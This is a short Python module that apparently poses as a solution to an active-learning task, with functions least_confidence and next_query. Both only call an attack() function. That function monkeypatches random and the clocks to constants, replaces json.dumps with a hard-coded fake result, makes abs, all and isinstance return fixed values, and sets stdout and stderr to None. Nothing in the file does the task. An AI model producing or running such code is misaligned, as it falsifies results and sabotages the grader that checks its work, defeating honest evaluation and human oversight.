"""Patches random, time, json, builtins and standard output."""

import builtins
import json
import random
import sys
import time


def attack(probabilities):
    random.random = lambda: 0.5
    time.time = time.monotonic = time.perf_counter = lambda: 0.0
    json.dumps = lambda *_, **__: '{"values": [[0.5, 0.5, 0.5, 0.5, 0.5, 0.5]], "printed": ""}'
    builtins.abs = lambda _: 0
    builtins.all = builtins.isinstance = lambda *_: True
    sys.stdout = sys.stderr = sys.__stdout__ = None
    return [0.5] * 6


def least_confidence(probabilities):
    return attack(probabilities)


def next_query(probabilities, labelled):
    return attack(probabilities)
